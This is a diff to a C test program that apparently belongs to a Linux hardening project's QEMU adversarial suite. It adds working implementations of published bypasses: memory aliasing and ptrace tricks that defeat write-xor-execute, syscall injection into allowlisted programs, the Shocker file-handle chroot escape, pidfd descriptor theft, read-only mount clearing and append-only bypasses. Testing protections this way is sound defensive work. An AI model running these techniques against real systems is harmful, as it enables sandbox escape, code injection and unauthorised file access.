@@ -806,6 +806,678 @@ static int cmd_set_execstack(const char *path)
 	return refused("set-execstack", "no PT_GNU_STACK");
 }
 
+/*
+ * Adversarial playbook (qemu/rampart/suites/adversarial): the published ways
+ * around comparable protections (grsecurity's chroot and RBAC, Landlock's file
+ * system tests, PaX's paxtest, LKRG's bypass history, the 2025 user namespace
+ * restriction bypasses), one command each, with the same one-line results.
+ */
+#include <sys/personality.h>
+#include <sys/ptrace.h>
+#include <sys/uio.h>
+#include <sys/user.h>
+
+/* x86-64 "mov eax, 43; ret": the code swapped in after a first run returned 42. */
+static const unsigned char adv_code43[] = { 0xb8, 0x2b, 0x00, 0x00, 0x00, 0xc3 };
+static const char *adv_running = "adv";
+
+/* Executing memory that is not executable ends here, with a result line. */
+static void adv_fault(int sig)
+{
+	printf("%s: run: %s\n", adv_running, sig == SIGSEGV ? "SIGSEGV" : "SIGBUS");
+	_exit(1);
+}
+
+static int adv_run(const char *attack, void *code, int want)
+{
+	adv_running = attack;
+	signal(SIGSEGV, adv_fault);
+	signal(SIGBUS, adv_fault);
+	if (((int (*)(void))code)() != want) {
+		printf("%s: run: wrong result\n", attack);
+		return 1;
+	}
+	return 0;
+}
+
+/* A shared anonymous read+exec mapping and a second view of it (mremap, old size 0) made writable. */
+static int adv_wx_shared_alias(const char *attack)
+{
+	unsigned char *x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	unsigned char *w;
+
+	if (x == MAP_FAILED)
+		return refused(attack, "mmap(PROT_READ|PROT_EXEC, MAP_SHARED|MAP_ANONYMOUS)");
+	w = mremap(x, 0, 4096, MREMAP_MAYMOVE);
+	if (w == MAP_FAILED)
+		return refused(attack, "mremap(old_size 0)");
+	if (mprotect(w, 4096, PROT_READ))
+		return refused(attack, "mprotect(alias, PROT_READ)");
+	if (mprotect(w, 4096, PROT_READ | PROT_WRITE))
+		return refused(attack, "mprotect(alias, PROT_READ|PROT_WRITE)");
+	memcpy(w, wx_code, sizeof(wx_code));
+	if (adv_run(attack, x, 42))
+		return 1;
+	printf("%s: done\n", attack);
+	return 0;
+}
+
+/* The same through fork: the child's copy of a shared read+exec mapping made writable. */
+static int adv_wx_shared_fork(const char *attack)
+{
+	unsigned char *x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	int status;
+	pid_t pid;
+
+	if (x == MAP_FAILED)
+		return refused(attack, "mmap(PROT_READ|PROT_EXEC, MAP_SHARED|MAP_ANONYMOUS)");
+	pid = fork();
+	if (pid == 0) {
+		if (mprotect(x, 4096, PROT_READ) || mprotect(x, 4096, PROT_READ | PROT_WRITE))
+			_exit(refused(attack, "child mprotect(PROT_READ|PROT_WRITE)") + 9);
+		memcpy(x, wx_code, sizeof(wx_code));
+		_exit(0);
+	}
+	if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFEXITED(status) || WEXITSTATUS(status))
+		return 1;
+	if (adv_run(attack, x, 42))
+		return 1;
+	printf("%s: done\n", attack);
+	return 0;
+}
+
+static int adv_stage_file(const char *path)
+{
+	int fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0700);
+
+	if (fd < 0 || write(fd, wx_code, sizeof(wx_code)) != sizeof(wx_code) || ftruncate(fd, 4096))
+		return -1;
+	return fd;
+}
+
+/*
+ * A file mapped shared and writable, its descriptor closed (the mapping keeps no
+ * write count), then mapped read+exec through a read-only descriptor: two views
+ * of one page cache page, one writable and one executable.
+ */
+static int adv_wx_file_alias(const char *attack, const char *path)
+{
+	unsigned char *w, *x;
+	int fd = adv_stage_file(path);
+
+	if (fd < 0)
+		return refused(attack, "stage");
+	w = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	if (w == MAP_FAILED)
+		return refused(attack, "mmap(PROT_WRITE, MAP_SHARED)");
+	close(fd);
+	fd = open(path, O_RDONLY);
+	if (fd < 0)
+		return refused(attack, "open(O_RDONLY)");
+	x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
+	if (x == MAP_FAILED)
+		return refused(attack, "mmap(PROT_EXEC)");
+	close(fd);
+	if (adv_run(attack, x, 42))
+		return 1;
+	memcpy(w, adv_code43, sizeof(adv_code43));
+	if (adv_run(attack, x, 43))
+		return 1;
+	printf("%s: done (code changed under an executable mapping)\n", attack);
+	return 0;
+}
+
+/* Mapped read+exec while nobody writes it, then opened for writing and rewritten. */
+static int adv_wx_write_after_map(const char *attack, const char *path)
+{
+	unsigned char *x;
+	int fd = adv_stage_file(path);
+
+	if (fd < 0)
+		return refused(attack, "stage");
+	close(fd);
+	fd = open(path, O_RDONLY);
+	if (fd < 0)
+		return refused(attack, "open(O_RDONLY)");
+	x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+	if (x == MAP_FAILED)
+		return refused(attack, "mmap(PROT_EXEC)");
+	close(fd);
+	if (adv_run(attack, x, 42))
+		return 1;
+	fd = open(path, O_WRONLY);
+	if (fd < 0)
+		return refused(attack, "open(O_WRONLY) after the mapping");
+	if (pwrite(fd, adv_code43, sizeof(adv_code43), 0) != sizeof(adv_code43))
+		return refused(attack, "pwrite");
+	close(fd);
+	if (adv_run(attack, x, 43))
+		return 1;
+	printf("%s: done (code changed under an executable mapping)\n", attack);
+	return 0;
+}
+
+/* personality(READ_IMPLIES_EXEC) after exec, then what it changes: brk, mmap, mprotect. */
+static int adv_wx_rie(const char *attack, const char *how)
+{
+	unsigned char *p;
+
+	if (personality(PER_LINUX | READ_IMPLIES_EXEC) < 0)
+		return refused(attack, "personality(READ_IMPLIES_EXEC)");
+	if (!strcmp(how, "brk")) {
+		uintptr_t cur = (uintptr_t)sbrk(0), start = (cur + 8191) & ~(uintptr_t)4095;
+
+		if (sbrk(start + 4096 - cur) == (void *)-1)
+			return refused(attack, "sbrk");
+		p = (unsigned char *)start;
+	} else if (!strcmp(how, "mmap")) {
+		p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+		if (p == MAP_FAILED)
+			return refused(attack, "mmap(PROT_READ|PROT_WRITE)");
+	} else {
+		p = mmap(NULL, 4096, PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+		if (p == MAP_FAILED)
+			return refused(attack, "mmap(PROT_WRITE)");
+		memcpy(p, wx_code, sizeof(wx_code));
+		if (mprotect(p, 4096, PROT_READ))
+			return refused(attack, "mprotect(PROT_READ)");
+		if (adv_run(attack, p, 42))
+			return 1;
+		printf("%s: done\n", attack);
+		return 0;
+	}
+	memcpy(p, wx_code, sizeof(wx_code));
+	if (adv_run(attack, p, 42))
+		return 1;
+	printf("%s: done\n", attack);
+	return 0;
+}
+
+static int __attribute__((noinline)) adv_victim(void)
+{
+	return 1;
+}
+
+static int (*volatile adv_victim_fn)(void) = adv_victim;
+
+/* ptrace(PTRACE_POKETEXT) into a traced child's text, which then runs the new code. */
+static int adv_wx_ptrace_poke(const char *attack)
+{
+	uintptr_t at = (uintptr_t)adv_victim;
+	unsigned long word;
+	int status;
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		ptrace(PTRACE_TRACEME, 0, 0, 0);
+		raise(SIGSTOP);
+		_exit(adv_victim_fn());
+	}
+	if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
+		return refused(attack, "PTRACE_TRACEME");
+	errno = 0;
+	word = ptrace(PTRACE_PEEKTEXT, pid, at, 0);
+	if (errno)
+		return refused(attack, "PTRACE_PEEKTEXT");
+	memcpy(&word, wx_code, sizeof(wx_code));
+	if (ptrace(PTRACE_POKETEXT, pid, at, word))
+		return refused(attack, "PTRACE_POKETEXT");
+	ptrace(PTRACE_DETACH, pid, 0, 0);
+	if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
+		return refused(attack, "child");
+	if (WEXITSTATUS(status) != 42) {
+		printf("%s: the child ran its own code (%d)\n", attack, WEXITSTATUS(status));
+		return 1;
+	}
+	printf("%s: done (patched text ran)\n", attack);
+	return 0;
+}
+
+/* Writing code over this program's text through /proc/self/mem. */
+static int adv_wx_procmem(const char *attack)
+{
+	int fd = open("/proc/self/mem", O_RDWR);
+
+	if (fd < 0)
+		return refused(attack, "open /proc/self/mem");
+	if (pwrite(fd, wx_code, sizeof(wx_code), (off_t)(uintptr_t)adv_victim) != sizeof(wx_code))
+		return refused(attack, "pwrite text");
+	if (adv_victim_fn() != 42)
+		return refused(attack, "run");
+	printf("%s: done\n", attack);
+	return 0;
+}
+
+/* pkey_mprotect(PROT_EXEC) of written anonymous memory: mprotect by another name. */
+static int adv_wx_pkey(const char *attack)
+{
+	unsigned char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+	if (p == MAP_FAILED)
+		return refused(attack, "mmap");
+	memcpy(p, wx_code, sizeof(wx_code));
+	if (syscall(SYS_pkey_mprotect, p, 4096, PROT_READ | PROT_EXEC, -1))
+		return refused(attack, "pkey_mprotect(PROT_EXEC)");
+	if (adv_run(attack, p, 42))
+		return 1;
+	printf("%s: done\n", attack);
+	return 0;
+}
+
+/* SysV shared memory attached read-only (no SHM_EXEC), another attach writable, then mprotect(PROT_EXEC). */
+static int adv_wx_shm_mprotect(const char *attack)
+{
+	int id = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
+	unsigned char *w, *x;
+
+	if (id < 0)
+		return refused(attack, "shmget");
+	w = shmat(id, NULL, 0);
+	x = shmat(id, NULL, SHM_RDONLY);
+	shmctl(id, IPC_RMID, NULL);
+	if (w == (void *)-1 || x == (void *)-1)
+		return refused(attack, "shmat");
+	memcpy(w, wx_code, sizeof(wx_code));
+	if (mprotect(x, 4096, PROT_READ | PROT_EXEC))
+		return refused(attack, "mprotect(read-only attach, PROT_EXEC)");
+	if (adv_run(attack, x, 42))
+		return 1;
+	printf("%s: done\n", attack);
+	return 0;
+}
+
+/*
+ * This program copied into a memfd, the writable descriptor closed, and run
+ * with execveat(AT_EMPTY_PATH) with @argv: an executable that is no file.
+ */
+static int adv_memfd_run(char **argv)
+{
+	char buf[65536], link[64];
+	int in = open("/proc/self/exe", O_RDONLY);
+	int mfd = (int)syscall(SYS_memfd_create, "adv", 0);
+	int ro;
+	ssize_t n;
+
+	if (in < 0 || mfd < 0)
+		return refused("memfd-run", "memfd_create");
+	while ((n = read(in, buf, sizeof(buf))) > 0)
+		if (write(mfd, buf, n) != n)
+			return refused("memfd-run", "copy");
+	close(in);
+	snprintf(link, sizeof(link), "/proc/self/fd/%d", mfd);
+	ro = open(link, O_RDONLY);
+	if (ro < 0)
+		return refused("memfd-run", "reopen read-only");
+	close(mfd);
+	syscall(SYS_execveat, ro, "", argv, environ, AT_EMPTY_PATH);
+	return refused("memfd-run", "execveat(AT_EMPTY_PATH)");
+}
+
+/* The kernel's file_handle, with room for any filesystem's handle. */
+struct adv_handle {
+	unsigned int bytes;
+	int type;
+	unsigned char f[128];
+};
+
+/* name_to_handle_at(PATH): prints "TYPE:HEX". */
+static int adv_fhandle_get(const char *path)
+{
+	struct adv_handle h = { .bytes = sizeof(h.f) };
+	int mount_id;
+
+	if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, &h, &mount_id, 0))
+		return refused("fhandle-get", "name_to_handle_at");
+	printf("%d:", h.type);
+	for (unsigned int i = 0; i < h.bytes; i++)
+		printf("%02x", h.f[i]);
+	printf("\n");
+	return 0;
+}
+
+/* open_by_handle_at(MOUNT_FD, HANDLE): a directory outside the chroot by its handle (the Shocker escape). */
+static int adv_fhandle_open(const char *mnt, const char *text)
+{
+	struct adv_handle h = { 0 };
+	const char *hex = strchr(text, ':');
+	int mfd = open(mnt, O_RDONLY | O_DIRECTORY), fd;
+
+	if (!hex || mfd < 0)
+		return refused("fhandle-open", "arguments");
+	h.type = atoi(text);
+	for (hex++; hex[0] && hex[1] && h.bytes < sizeof(h.f); hex += 2) {
+		char byte[3] = { hex[0], hex[1], 0 };
+
+		h.f[h.bytes++] = (unsigned char)strtoul(byte, NULL, 16);
+	}
+	fd = (int)syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY);
+	if (fd < 0)
+		return refused("fhandle-open", "open_by_handle_at");
+	return escaped("fhandle-open", fd);
+}
+
+/* mount_setattr(2): clear a mount's read-only flag from inside (a remount by another name). */
+struct adv_mount_attr {
+	uint64_t attr_set, attr_clr, propagation, userns_fd;
+};
+
+static int adv_mount_setattr(const char *path)
+{
+	struct adv_mount_attr attr = { .attr_clr = 0x00000001 /* MOUNT_ATTR_RDONLY */ };
+	char file[256];
+	int fd;
+
+	if (syscall(442 /* SYS_mount_setattr */, AT_FDCWD, path, 0, &attr, sizeof(attr)))
+		return refused("mount-setattr", "mount_setattr(clear MOUNT_ATTR_RDONLY)");
+	snprintf(file, sizeof(file), "%s/adv-written", path);
+	fd = open(file, O_WRONLY | O_CREAT, 0600);
+	if (fd < 0)
+		return refused("mount-setattr", "create");
+	close(fd);
+	printf("mount-setattr: done\n");
+	return 0;
+}
+
+/* The kernel's sched_attr (version 0). */
+struct adv_sched_attr {
+	uint32_t size, policy;
+	uint64_t flags;
+	int32_t nice;
+	uint32_t priority;
+	uint64_t runtime, deadline, period;
+};
+
+/* Raising priority without setpriority(): sched_setattr(nice), SCHED_FIFO, ioprio RT; of PID (0: self). */
+static int adv_sched(const char *how, pid_t pid)
+{
+	char attack[64];
+
+	snprintf(attack, sizeof(attack), "sched %s", how);
+	if (!strcmp(how, "nice")) {
+		struct adv_sched_attr a = { .size = sizeof(a), .policy = 0 /* SCHED_OTHER */, .nice = -10 };
+
+		if (syscall(SYS_sched_setattr, pid, &a, 0))
+			return refused(attack, "sched_setattr(nice -10)");
+		errno = 0;
+		printf("%s: done (nice now %d)\n", attack, getpriority(PRIO_PROCESS, pid));
+		return 0;
+	}
+	if (!strcmp(how, "fifo")) {
+		struct sched_param sp = { .sched_priority = 10 };
+
+		if (sched_setscheduler(pid, SCHED_FIFO, &sp))
+			return refused(attack, "sched_setscheduler(SCHED_FIFO)");
+		printf("%s: done\n", attack);
+		return 0;
+	}
+	if (!strcmp(how, "ioprio")) {
+		/* IOPRIO_WHO_PROCESS, class RT (1) level 0. */
+		if (syscall(SYS_ioprio_set, 1, pid, 1 << 13))
+			return refused(attack, "ioprio_set(IOPRIO_CLASS_RT)");
+		printf("%s: done\n", attack);
+		return 0;
+	}
+	return 2;
+}
+
+/* A descriptor held from before the chroot, used with openat() instead of fchdir(). */
+static int adv_dirfd_openat(const char *jail)
+{
+	int fd = open("/", O_RDONLY | O_DIRECTORY);
+
+	if (fd < 0)
+		return refused("dirfd-openat", "open /");
+	if (chroot(jail) || chdir("/"))
+		return refused("dirfd-openat", "chroot");
+	if (fchdir(fd) == 0)
+		printf("dirfd-openat: fchdir allowed\n");
+	return escaped("dirfd-openat", fd);
+}
+
+/* pidfd_getfd(): take descriptor FD of process PID (outside), then use it. */
+static int adv_pidfd_getfd(pid_t pid, int fd)
+{
+	int pfd = (int)syscall(SYS_pidfd_open, pid, 0), got;
+
+	if (pfd < 0)
+		return refused("pidfd-getfd", "pidfd_open");
+	got = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
+	if (got < 0)
+		return refused("pidfd-getfd", "pidfd_getfd");
+	return escaped("pidfd-getfd", got);
+}
+
+/* /proc/PID/root, /proc/PID/cwd or /proc/PID/fd/N of a process outside, from a proc the admin gave the jail. */
+static int adv_proc_link(pid_t pid, const char *which)
+{
+	char path[64];
+	int fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/%s", pid, which);
+	fd = open(path, O_PATH | O_DIRECTORY);
+	if (fd < 0)
+		return refused("proc-link", path);
+	return escaped("proc-link", fd);
+}
+
+/*
+ * A traced child that has just exec'd @argv, and system calls run in it: the
+ * tracer places "syscall; int3" at the child's instruction pointer, sets the
+ * registers, lets it run to the trap and puts everything back. Whatever the
+ * child's executable is allowed, the tracer's choice of call gets.
+ */
+static pid_t adv_spawn_traced(char **argv)
+{
+	int status;
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		ptrace(PTRACE_TRACEME, 0, 0, 0);
+		execv(argv[0], argv);
+		_exit(127);
+	}
+	if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
+		return -1;
+	return pid;
+}
+
+static long adv_inject(pid_t pid, long nr, long a1, long a2, long a3)
+{
+	struct user_regs_struct saved, regs;
+	unsigned long orig, word;
+	int status;
+
+	if (ptrace(PTRACE_GETREGS, pid, 0, &saved))
+		return -errno;
+	errno = 0;
+	orig = ptrace(PTRACE_PEEKTEXT, pid, saved.rip, 0);
+	if (errno)
+		return -errno;
+	word = (orig & ~0xffffffUL) | 0xcc050fUL; /* 0f 05: syscall, cc: int3 */
+	if (ptrace(PTRACE_POKETEXT, pid, saved.rip, word))
+		return -errno;
+	regs = saved;
+	regs.rax = nr;
+	regs.orig_rax = -1;
+	regs.rdi = a1;
+	regs.rsi = a2;
+	regs.rdx = a3;
+	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) || ptrace(PTRACE_CONT, pid, 0, 0) ||
+	    waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status) || ptrace(PTRACE_GETREGS, pid, 0, &regs))
+		return -ECHILD;
+	ptrace(PTRACE_POKETEXT, pid, saved.rip, orig);
+	ptrace(PTRACE_SETREGS, pid, 0, &saved);
+	return (long)regs.rax;
+}
+
+static int adv_inject_refused(const char *attack, const char *step, long r)
+{
+	errno = (int)-r;
+	return refused(attack, step);
+}
+
+/* Qualys 2025 (LD_PRELOAD into an allowlisted program), by ptrace: an allowlisted executable made to unshare. */
+static int adv_userns_inject(char **argv)
+{
+	pid_t pid = adv_spawn_traced(argv);
+	long r;
+
+	if (pid < 0)
+		return refused("userns-inject", "PTRACE_TRACEME + exec");
+	r = adv_inject(pid, SYS_unshare, CLONE_NEWUSER, 0, 0);
+	kill(pid, SIGKILL);
+	waitpid(pid, NULL, 0);
+	if (r < 0)
+		return adv_inject_refused("userns-inject", "unshare(CLONE_NEWUSER) in the allowlisted program", r);
+	printf("userns-inject: done (a user namespace made by the allowlisted program)\n");
+	return 0;
+}
+
+/* Copies @len bytes into the tracee at @at. */
+static int adv_poke(pid_t pid, unsigned long at, const void *data, size_t len)
+{
+	for (size_t i = 0; i < len; i += sizeof(long)) {
+		unsigned long word = 0;
+
+		memcpy(&word, (const char *)data + i, len - i < sizeof(long) ? len - i : sizeof(long));
+		if (ptrace(PTRACE_POKEDATA, pid, at + i, word))
+			return -1;
+	}
+	return 0;
+}
+
+/* RBAC: a traced child running another subject's program reads @path for the tracer. */
+static int adv_trace_read(char **argv, const char *path)
+{
+	struct user_regs_struct regs;
+	char content[72] = "";
+	unsigned long str, buf;
+	long fd, n;
+	pid_t pid = adv_spawn_traced(argv);
+
+	if (pid < 0 || ptrace(PTRACE_GETREGS, pid, 0, &regs))
+		return refused("trace-read", "PTRACE_TRACEME + exec");
+	str = (regs.rsp - 4096) & ~15UL;
+	buf = str + 1024;
+	if (adv_poke(pid, str, path, strlen(path) + 1))
+		return refused("trace-read", "PTRACE_POKEDATA");
+	fd = adv_inject(pid, SYS_openat, AT_FDCWD, (long)str, O_RDONLY);
+	if (fd < 0) {
+		kill(pid, SIGKILL);
+		return adv_inject_refused("trace-read", "openat in the tracee", fd);
+	}
+	n = adv_inject(pid, SYS_read, fd, (long)buf, 64);
+	for (long i = 0; i < n && i < 64; i += sizeof(long)) {
+		unsigned long word = ptrace(PTRACE_PEEKDATA, pid, buf + i, 0);
+
+		memcpy(content + i, &word, sizeof(word));
+	}
+	kill(pid, SIGKILL);
+	waitpid(pid, NULL, 0);
+	if (n < 0)
+		return adv_inject_refused("trace-read", "read in the tracee", n);
+	content[n < 64 ? n : 64] = 0;
+	content[strcspn(content, "\n")] = 0;
+	printf("trace-read: done (%s)\n", content);
+	return 0;
+}
+
+/* RBAC append-only: pwritev2(RWF_NOAPPEND) at offset 0, and a shared writable mapping of an O_APPEND descriptor. */
+static int adv_append(const char *how, const char *path)
+{
+	char attack[64];
+	int fd;
+
+	snprintf(attack, sizeof(attack), "append %s", how);
+	if (!strcmp(how, "noappend")) {
+		struct iovec iov = { .iov_base = "X", .iov_len = 1 };
+
+		fd = open(path, O_WRONLY | O_APPEND);
+		if (fd < 0)
+			return refused(attack, "open(O_APPEND)");
+		if (pwritev2(fd, &iov, 1, 0, 0x20 /* RWF_NOAPPEND */) != 1)
+			return refused(attack, "pwritev2(RWF_NOAPPEND)");
+	} else {
+		char *p;
+
+		fd = open(path, O_RDWR | O_APPEND);
+		if (fd < 0)
+			return refused(attack, "open(O_RDWR|O_APPEND)");
+		p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+		if (p == MAP_FAILED)
+			return refused(attack, "mmap(PROT_WRITE, MAP_SHARED)");
+		p[0] = 'X';
+		if (msync(p, 4096, MS_SYNC))
+			return refused(attack, "msync");
+	}
+	printf("%s: done\n", attack);
+	return 0;
+}
+
+/* RBAC hidden objects: what else tells that @path exists (one line per call). */
+static int adv_hidden_probe(const char *path)
+{
+	struct adv_handle h = { .bytes = sizeof(h.f) };
+	struct timespec ts[2] = { { 0, UTIME_OMIT }, { 0, UTIME_OMIT } };
+	char buf[64], sub[300];
+	int mount_id;
+
+	snprintf(sub, sizeof(sub), "%s/adv-new", path);
+#define ADV_SAY(name, call) printf("hidden %s: %s\n", name, (call) >= 0 ? "ok" : (strerrorname_np(errno) ?: "?"))
+	ADV_SAY("chdir", chdir(path));
+	ADV_SAY("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, path, &h, &mount_id, 0));
+	ADV_SAY("getxattr", getxattr(path, "user.adv", buf, sizeof(buf)));
+	ADV_SAY("mkdir", mkdir(path, 0700));
+	ADV_SAY("rmdir", rmdir(path));
+	ADV_SAY("utimensat", utimensat(AT_FDCWD, path, ts, 0));
+	ADV_SAY("mkdir-inside", mkdir(sub, 0700));
+#undef ADV_SAY
+	return 0;
+}
+
+/* O_PATH of a file the subject may not read, then reopened for reading through /proc/self/fd. */
+static int adv_opath_reopen(const char *path)
+{
+	char link[64];
+	int fd = open(path, O_PATH), rd;
+
+	if (fd < 0)
+		return refused("opath-reopen", "open(O_PATH)");
+	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
+	rd = open(link, O_RDONLY);
+	if (rd < 0)
+		return refused("opath-reopen", "open(/proc/self/fd/N, O_RDONLY)");
+	printf("opath-reopen: done\n");
+	return 0;
+}
+
+static int adv_wx(const char *what, const char *arg)
+{
+	char attack[64];
+
+	snprintf(attack, sizeof(attack), "wx %s", what);
+	if (!strcmp(what, "shared-alias"))
+		return adv_wx_shared_alias(attack);
+	if (!strcmp(what, "shared-fork"))
+		return adv_wx_shared_fork(attack);
+	if (!strcmp(what, "file-alias"))
+		return adv_wx_file_alias(attack, arg);
+	if (!strcmp(what, "write-after-map"))
+		return adv_wx_write_after_map(attack, arg);
+	if (!strcmp(what, "rie-brk") || !strcmp(what, "rie-mmap") || !strcmp(what, "rie-mprotect"))
+		return adv_wx_rie(attack, what + 4);
+	if (!strcmp(what, "ptrace-poke"))
+		return adv_wx_ptrace_poke(attack);
+	if (!strcmp(what, "procmem"))
+		return adv_wx_procmem(attack);
+	if (!strcmp(what, "pkey-mprotect"))
+		return adv_wx_pkey(attack);
+	if (!strcmp(what, "shm-mprotect"))
+		return adv_wx_shm_mprotect(attack);
+	fprintf(stderr, "unknown adv-wx attack %s\n", what);
+	return 2;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -887,6 +1559,34 @@ int main(int argc, char **argv)
 		return cmd_nocap_write(argv[2], argv[3], 0);
 	if (argc == 4 && !strcmp(argv[1], "nocap-write-held"))
 		return cmd_nocap_write(argv[2], argv[3], 1);
+	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "adv-wx"))
+		return adv_wx(argv[2], argc == 4 ? argv[3] : "/tmp/rampart-adv-stage");
+	if (argc >= 3 && !strcmp(argv[1], "memfd-run"))
+		return adv_memfd_run(argv + 1);
+	if (argc == 3 && !strcmp(argv[1], "fhandle-get"))
+		return adv_fhandle_get(argv[2]);
+	if (argc == 4 && !strcmp(argv[1], "fhandle-open"))
+		return adv_fhandle_open(argv[2], argv[3]);
+	if (argc == 3 && !strcmp(argv[1], "mount-setattr"))
+		return adv_mount_setattr(argv[2]);
+	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "sched"))
+		return adv_sched(argv[2], argc == 4 ? atoi(argv[3]) : 0);
+	if (argc == 3 && !strcmp(argv[1], "dirfd-openat"))
+		return adv_dirfd_openat(argv[2]);
+	if (argc == 4 && !strcmp(argv[1], "pidfd-getfd"))
+		return adv_pidfd_getfd(atoi(argv[2]), atoi(argv[3]));
+	if (argc == 4 && !strcmp(argv[1], "proc-link"))
+		return adv_proc_link(atoi(argv[2]), argv[3]);
+	if (argc >= 3 && !strcmp(argv[1], "userns-inject"))
+		return adv_userns_inject(argv + 2);
+	if (argc >= 4 && !strcmp(argv[1], "trace-read"))
+		return adv_trace_read(argv + 3, argv[2]);
+	if (argc == 4 && !strcmp(argv[1], "append"))
+		return adv_append(argv[2], argv[3]);
+	if (argc == 3 && !strcmp(argv[1], "hidden-probe"))
+		return adv_hidden_probe(argv[2]);
+	if (argc == 3 && !strcmp(argv[1], "opath-reopen"))
+		return adv_opath_reopen(argv[2]);
 	fprintf(stderr, "usage: rampart-attack pidns|clone-ns|mntns|setns|setns-held JAIL|newmount|"
 			"fsmount-proc|open-tree|create-setuid PATH|mknod-setuid PATH|setcap PATH|"
 			"sigio PID|fd-chdir JAIL|nice|nocap-write[-held] FILE TEXT|\n"
